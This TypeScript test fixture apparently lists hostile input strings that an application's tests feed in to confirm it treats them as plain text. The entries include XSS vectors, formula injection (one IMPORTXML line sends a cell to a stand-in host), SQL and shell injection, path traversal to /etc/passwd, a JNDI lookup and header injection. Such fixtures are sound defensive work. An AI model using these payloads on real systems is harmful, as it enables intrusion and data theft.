/** Set on the window by whatever of a hostile text runs. */
export const RAN = "ranFromFile";
/** No request may go there. */
export const ELSEWHERE = "https://elsewhere.example";
const RUN = `window.${RAN}=1`;

/** Texts that do something where they are taken for more than text, the best known of each kind. The order is kept: tests name the first ones. */
export const HOSTILE = [
  // HTML and SVG
  `<img src=x onerror="${RUN}">`,
  `<img src="${ELSEWHERE}/seen.png">`,
  `"><script>${RUN};alert(1)</script>`,
  `<svg/onload="${RUN}"><iframe src="${ELSEWHERE}"></iframe></svg>`,
  `<style>@import "${ELSEWHERE}/a.css";*{background:url(${ELSEWHERE}/b.png)}</style>`,
  // Addresses
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  // Spreadsheets
  `=HYPERLINK("${ELSEWHERE}","Open")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  // Scripts and templates
  `'-${RUN}-'\${${RUN}}{{constructor.constructor("${RUN}")()}}`,
  "__proto__",
  "constructor",
  "toString",
  `</title></textarea></style></script></noscript></template><script>${RUN}</script>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a><set onbegin="${RUN}"/><script href="data:,${RUN}"/></svg>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<iframe srcdoc="&lt;script&gt;parent.${RAN}=1&lt;/script&gt;"></iframe><object data="javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}"><base href="${ELSEWHERE}/"><link rel=stylesheet href="${ELSEWHERE}/c.css">`,
  `<details open ontoggle=${RUN}><input autofocus onfocus=${RUN}><video><source onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form id=documentElement name=body action="${ELSEWHERE}"><input name=attributes>`,
  `<!--><img src=x onerror=${RUN}>--><![CDATA[<script>${RUN}</script>]]>`,
  `]]><!ENTITY x SYSTEM "${ELSEWHERE}/x">&x;<?xml-stylesheet href="${ELSEWHERE}/d.css"?>`,
  `＜script＞${RUN}＜/script＞ \u00bcscript\u00be +ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  // Out of an attribute or a literal
  `" onmouseover="${RUN}" autofocus x="`,
  `' onmouseover='${RUN}' x='`,
  `\` onmouseover=${RUN} \``,
  `x onmouseover=${RUN} style=position:fixed;inset:0`,
  `&quot; onmouseover=&quot;${RUN}&#x22;&#34 onclick=${RUN}`,
  `\\";${RUN};//\\u003c/script\\u003e`,
  `*/${RUN}/*</style>`,
  `expression(${RUN});background:url("${ELSEWHERE}/e.png")}*{color:red`,
  // Templates
  `{{7*7}} \${7*7} <%= 7*7 %> #{7*7} [[\${7*7}]] {%7*7%}`,
  // Addresses with tabs, line ends, entities
  `java\tscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `  \u0001JaVaScRiPt:${RUN}`,
  `&#106;avascript:${RUN}`,
  `java&Tab;script&colon;${RUN}`,
  `vbscript:msgbox(1)`,
  `blob:${ELSEWHERE}/3f1c`,
  `//elsewhere.example/f.js`,
  `[click](javascript:${RUN}) ![seen](${ELSEWHERE}/g.png) <javascript:${RUN}> [x]: ${ELSEWHERE}`,
  // Characters that turn, hide or break
  "\u202etfel ot thgir\u202c \u2066\u2067\u2068\u2069\u200f\u061c",
  "null \0 byte, bell \u0007, escape \u001b[31m, delete \u007f\u0080\u009f",
  "half a pair \ud800 and \udfff, no letter \ufffe\uffff",
  `Z${"\u0353\u0318\u0327\u0301\u034c\u0489".repeat(30)}algo`,
  "\u200b\u200c\u200d\u2060\ufeff\u00ad",
  "\u2028line\u2029paragraph\u0085next",
  `👩‍👩‍👧‍👦${"👨‍💻".repeat(30)}\u{e0041}\u{e007f}`,
  `${"W".repeat(5000)} ${"long ".repeat(500)}`,
  "\r\nSet-Cookie: a=b\r\n\r\n<html>",
  "first\rsecond\nthird\r\n\r\nfourth",
  // Spreadsheets once more
  "\t=1+1",
  "\r=1+1",
  "\n+1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  " \u00a0-1+1",
  `'=1+1`,
  `a,"b";=1+1\t=1+1`,
  `=cmd|'/C calc'!'A1'`,
  `=IMPORTXML(CONCAT("${ELSEWHERE}/?",A1),"//a")`,
  // Databases, shells, files, formats, citations
  `'; DROP TABLE statements; -- ' OR '1'='1`,
  `$(touch x) \`touch x\` | touch x && touch x`,
  "../../../../etc/passwd%00.png ..\\..\\windows\\win.ini CON NUL.txt",
  "%s%s%n %x ${jndi:ldap://elsewhere.example/a}",
  "\\input{/etc/passwd}\\write18{touch x} } , title = {other} @misc{x, $_^&%#~",
  "x\r\nER  - \r\nTY  - GEN\r\nTI  - other",
  "D:20260101) /JS (app.alert(1)) /URI (https://elsewhere.example) >> endobj \\",
  // Names that objects have
  "prototype",
  "hasOwnProperty",
  "__defineGetter__",
  "then",
] as const;
